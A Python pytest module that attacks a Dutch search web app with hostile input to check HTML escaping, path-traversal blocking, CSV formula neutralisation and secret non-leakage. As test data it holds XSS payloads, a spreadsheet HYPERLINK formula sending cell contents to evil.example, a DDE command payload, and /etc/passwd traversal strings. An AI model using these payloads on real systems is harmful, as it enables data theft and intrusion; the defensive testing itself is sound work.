"""Hostile input against the web app: API fuzz, HTML escaping, path traversal, CSV formulas, secrets.

Runs against a real index (mini corpus + a few hostile documents) through Flask's test client;
schemathesis drives the OpenAPI document through the WSGI integration (no sockets at all).
"""
from __future__ import annotations

import csv
import io
import logging
import os
import shutil
from pathlib import Path
from urllib.parse import quote

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from rhelpers import LONG, MINI_CORPUS, settings_for

pytest.importorskip("search_app", reason="search_app is not there yet")

SENTINEL = "S3NTINEL-geheim-8f2c1d"
EXAMPLES = 400 if LONG else 80
HOSTILE_TITLE = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"klik\")"
HOSTILE_DOC = f"""---
titel: '{HOSTILE_TITLE.replace("'", "''")}'
type: praktijkverhaal
gemeenten: ['+Rotterdam']
themas: ['@SUM(1+1)', '-2+3']
jaar: 2024
---
## =cmd|' /C calc'!A0

<script>alert('xss-in-corpus')</script> Ouders in de wijk helpen bij huiswerk en sport. -1+1 is een formule.
"""
JSON_ERRORS = {400, 404, 405, 503}


@pytest.fixture(scope="module")
def app_env(tmp_path_factory):
    from indexer.build import build_index

    base = tmp_path_factory.mktemp("app_hostile")
    corpus = base / "corpus"
    shutil.copytree(MINI_CORPUS, corpus)
    (corpus / "praktijkverhalen" / "formule.md").write_text(HOSTILE_DOC, encoding="utf-8")
    outside = base / "outside"
    outside.mkdir()
    (outside / "geheim.md").write_text("# Geheim\n\nDit bestand staat buiten de corpusmap en mag nooit uitgeleverd worden.\n",
                                       encoding="utf-8")
    os.symlink(outside / "geheim.md", corpus / "praktijkverhalen" / "link-naar-buiten.md")
    settings = settings_for(base / "index").with_(es_api_key=SENTINEL, es_password=SENTINEL, es_username="elastic")
    report = build_index([corpus], settings, progress=False)
    return {"settings": settings, "corpus": corpus, "outside": outside, "report": report}


@pytest.fixture(scope="module")
def app(app_env):
    from search_app import create_app

    return create_app({"TESTING": False, "GKA_SETTINGS": app_env["settings"], "CORPUS_DIR": app_env["corpus"],
                       "SERVICE_RETRY_SECONDS": 0})


@pytest.fixture
def client(app):
    return app.test_client()


def _assert_well_behaved(resp, path: str):
    assert resp.status_code != 500, f"500 on {path}: {resp.get_data(as_text=True)[:300]}"
    assert resp.status_code in {200, 302, 308} | JSON_ERRORS, (path, resp.status_code)
    if path.startswith("/api/") and resp.status_code >= 400:
        assert resp.is_json, path
        body = resp.get_json()
        assert body["error"]["status"] == resp.status_code
    assert SENTINEL not in resp.get_data(as_text=True)


# ---- hypothesis fuzz of /api/search ---------------------------------------------------------

PARAM_NAMES = st.sampled_from(["q", "mode", "k", "per_page", "page", "collapse", "sort", "doc_id", "gemeente",
                               "type", "thema", "jaar", "bogus", "q[]", "__proto__"])
VALUES = st.one_of(
    st.text(max_size=40),
    st.sampled_from(["0", "-1", "51", "1e3", "9" * 30, "NaN", "true", "hybride", "semantisch", "trefwoord", "datum",
                     "<script>alert(1)</script>", "%00", "../../etc/passwd", "\x00", "' OR 1=1 --", "a" * 600]),
    st.integers(-(2**40), 2**40).map(str),
)
PARAMS = st.lists(st.tuples(PARAM_NAMES, VALUES), max_size=8)
HSET = settings(max_examples=EXAMPLES, deadline=None,
                suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture])


@HSET
@given(params=PARAMS)
def test_api_search_fuzz(client, params):
    resp = client.get("/api/search", query_string=params)
    _assert_well_behaved(resp, "/api/search")
    if resp.status_code == 200:
        body = resp.get_json()
        assert isinstance(body["hits"], list) and len(body["hits"]) <= body["k"]


@HSET
@given(params=PARAMS, path=st.sampled_from(["/", "/export.csv", "/export.json", "/api/suggest", "/interventies"]))
def test_pages_fuzz_no_500_and_escaped(client, params, path):
    resp = client.get(path, query_string=params)
    _assert_well_behaved(resp, path)
    if resp.mimetype == "text/html":
        html = resp.get_data(as_text=True)
        for _, value in params:
            if "<" in value and len(value) > 3:
                assert value not in html, f"unescaped user text on {path}: {value!r}"


def test_user_markup_escaped_on_pages(client):
    payloads = ["<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "<mark>taal</mark><b>x</b>"]
    for p in payloads:
        for path in (f"/?q={quote(p)}", f"/documenten/praktijkverhalen/sport-rotterdam.md?q={quote(p)}",
                     f"/?q=taal&gemeente={quote(p)}", f"/gemeente/{quote(p, safe='')}", f"/?q=x&mode={quote(p)}"):
            resp = client.get(path)
            _assert_well_behaved(resp, path)
            assert p not in resp.get_data(as_text=True), path


def test_corpus_markup_escaped(client):
    resp = client.get("/?q=huiswerk+sport")
    html = resp.get_data(as_text=True)
    assert "<script>alert('xss-in-corpus')" not in html
    resp = client.get("/documenten/praktijkverhalen/formule.md")
    assert resp.status_code == 200
    assert "<script>alert('xss-in-corpus')" not in resp.get_data(as_text=True)
    api = client.get("/api/search?q=huiswerk+sport&mode=keyword").get_json()
    for hit in api["hits"]:
        assert "<script" not in hit["snippet"]


# ---- schemathesis over the OpenAPI document ---------------------------------------------------

schemathesis = pytest.importorskip("schemathesis", reason="pip install schemathesis (tell the lead)")


def test_openapi_fuzz(app):
    """Every documented operation, with cases generated from its schema (the schemathesis pytest
    plugin does not run under pytest 9, so the hypothesis strategies are driven directly)."""
    schema = schemathesis.openapi.from_wsgi("/api/openapi.json", app)
    checks = [schemathesis.checks.not_a_server_error, schemathesis.checks.response_schema_conformance,
              schemathesis.checks.content_type_conformance]
    operations = [result.ok() for result in schema.get_all_operations()]
    assert len(operations) >= 5
    calls = {"n": 0}
    for operation in operations:
        @settings(max_examples=40 if not LONG else 300, deadline=None, suppress_health_check=list(HealthCheck),
                  database=None)
        @given(case=operation.as_strategy())
        def run(case):
            calls["n"] += 1
            response = case.call()
            assert response.status_code < 500 or response.status_code == 503, (case.path, case.query, response.status_code)
            assert SENTINEL not in response.text
            if response.status_code in JSON_ERRORS:
                assert response.json()["error"]["status"] == response.status_code
            case.validate_response(response, checks=checks)

        run()
    print(f"schemathesis: {len(operations)} operations, {calls['n']} cases")


# ---- path traversal ------------------------------------------------------------------------

TRAVERSALS = [
    "../../../../etc/passwd", "..%2f..%2f..%2fetc%2fpasswd", "%2e%2e/%2e%2e/%2e%2e/etc/passwd",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd", "..%252f..%252fetc%252fpasswd", "/etc/passwd", "%2fetc%2fpasswd",
    "praktijkverhalen/../../outside/geheim.md", "praktijkverhalen/%2e%2e/%2e%2e/outside/geheim.md",
    "....//....//etc/passwd", "..\\..\\etc\\passwd", "praktijkverhalen/sport-rotterdam.md%00.pdf",
    "praktijkverhalen/link-naar-buiten.md", "C:/Windows/win.ini", "//etc/passwd", "%c0%ae%c0%ae/etc/passwd",
]


@pytest.mark.parametrize("prefix", ["/bron/", "/documenten/", "/api/documents/"])
@pytest.mark.parametrize("target", TRAVERSALS)
def test_path_traversal_is_404(client, prefix, target):
    first = client.get(prefix + target)
    if first.status_code in (301, 302, 308):  # werkzeug merges '//' with a redirect: it must stay on this site
        location = first.headers["Location"]
        assert location.startswith("/") and not location.startswith("//") or location.startswith("http://localhost/")
    resp = client.get(prefix + target, follow_redirects=True)
    body = resp.get_data(as_text=True)
    assert "root:" not in body and "buiten de corpusmap" not in body
    assert resp.status_code == 404, (prefix + target, resp.status_code)


def test_symlink_out_of_corpus_not_indexed(client, app_env):
    assert any("link-naar-buiten.md" in line for line in app_env["report"].skipped)
    for doc_id in ("geheim.md", "link-naar-buiten.md", "praktijkverhalen/link-naar-buiten.md"):
        assert client.get(f"/api/documents/{doc_id}").status_code == 404
    hits = client.get("/api/search?q=buiten+de+corpusmap&mode=keyword").get_json()["hits"]
    assert not [h for h in hits if "corpusmap" in h["text"]]


def test_bron_serves_inside_files(client):
    resp = client.get("/bron/praktijkverhalen/sport-rotterdam.md")
    assert resp.status_code == 200
    assert resp.headers["X-Content-Type-Options"] == "nosniff"


# ---- CSV export ----------------------------------------------------------------------------

def test_csv_export_neutralises_formulas(client):
    resp = client.get("/export.csv?q=huiswerk+sport+formule&mode=keyword")
    assert resp.status_code == 200
    rows = list(csv.reader(io.StringIO(resp.get_data(as_text=True).lstrip("\ufeff")), delimiter=";"))
    header, data = rows[0], rows[1:]
    assert any(HOSTILE_TITLE in "".join(r) for r in data), "the hostile document was not exported"
    for row in data:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (header, cell)


def test_export_size_is_bounded(client, app, monkeypatch):
    everything = list(csv.reader(io.StringIO(client.get("/export.csv?q=ouders").get_data(as_text=True).lstrip("\ufeff")),
                                 delimiter=";"))
    cap = len(everything) - 2  # a cap below what the query finds: the export must stop at it
    assert cap >= 1
    monkeypatch.setitem(app.config, "EXPORT_MAX_ROWS", cap)
    resp = client.get("/export.csv?q=ouders")
    assert resp.status_code == 200
    rows = list(csv.reader(io.StringIO(resp.get_data(as_text=True).lstrip("\ufeff")), delimiter=";"))
    assert rows[1:] == everything[1:cap + 1]
    # the export is the whole result set: page and page size are not its parameters
    assert client.get("/export.csv?q=ouders&page=51").get_data(as_text=True) == resp.get_data(as_text=True)


# ---- limits --------------------------------------------------------------------------------

@pytest.mark.parametrize("query,status", [
    ("q=" + "a" * 500, 200), ("q=" + "a" * 501, 400), ("q=taal&k=50", 200), ("q=taal&k=51", 400),
    ("q=taal&per_page=1000", 400), ("q=taal&page=50", 200), ("q=taal&page=51", 400), ("q=taal&k=0", 400),
    ("q=taal&" + "&".join(f"gemeente=g{i}" for i in range(21)), 400), ("q=taal&gemeente=" + "g" * 201, 400),
])
def test_request_limits(client, query, status):
    resp = client.get("/api/search?" + query)
    assert resp.status_code == status, (query[:60], resp.status_code)


# ---- secrets -------------------------------------------------------------------------------

AUDIT_PATHS = ["/", "/?q=taal", "/healthz", "/api/openapi.json", "/api/search?q=taal", "/api/facets",
               "/api/suggest?q=ro", "/api/documents/nope", "/api/search?q=taal&k=999", "/documenten/nope",
               "/bron/nope", "/interventies", "/export.csv?q=taal", "/export.json?q=taal", "/niet-bestaand",
               "/gemeente/Rotterdam", "/api/documents/praktijkverhalen/sport-rotterdam.md/related"]


def test_secrets_never_leak(app_env, caplog):
    from search_app import create_app

    caplog.set_level(logging.DEBUG)
    apps = [
        create_app({"GKA_SETTINGS": app_env["settings"], "CORPUS_DIR": app_env["corpus"], "SERVICE_RETRY_SECONDS": 0}),
        # an unreachable cluster (closed loopback port) with credentials: 503 pages must not echo them
        create_app({"GKA_SETTINGS": app_env["settings"].with_(backend="elasticsearch", es_url="http://127.0.0.1:9",
                                                              es_timeout=1.0),
                    "CORPUS_DIR": app_env["corpus"], "SERVICE_RETRY_SECONDS": 0}),
    ]
    assert SENTINEL not in repr(app_env["settings"])
    for app in apps:
        client = app.test_client()
        for path in AUDIT_PATHS:
            resp = client.get(path)
            assert resp.status_code != 500, (path, resp.get_data(as_text=True)[:200])
            assert SENTINEL not in resp.get_data(as_text=True), path
            assert all(SENTINEL not in v for _, v in resp.headers.items()), path
    logged = "\n".join(r.getMessage() + (str(r.exc_info) if r.exc_info else "") for r in caplog.records)
    assert SENTINEL not in logged
    assert SENTINEL not in caplog.text
